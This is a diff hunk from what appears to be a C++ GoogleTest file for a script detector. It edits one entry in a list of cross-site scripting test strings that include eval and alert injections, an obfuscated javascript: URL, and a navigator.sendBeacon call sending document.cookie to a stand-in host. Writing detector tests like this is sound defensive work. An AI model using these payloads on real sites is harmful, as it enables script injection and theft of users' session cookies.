@@ -105,7 +105,7 @@ INSTANTIATE_TEST_SUITE_P(
                     "};alert(1);{", "/;alert(1)//", "onerror=alert;throw 1",
                     "valueOf=alert;window+''", "'-eval('alert(1)')-'",
                     "s='java'+'scri'+'pt:al'+'ert(1)';URL=s", "1[a+b](c+d)",
-                    "with(document)alert(cookie)", "document.__parent__._=alert",
+                    "with(document)alert(cookie)", "document.a._=alert",
                     "navigator.sendBeacon('//a.example',document.cookie)"));
 INSTANTIATE_TEST_SUITE_P(
     Addresses, IsScript,
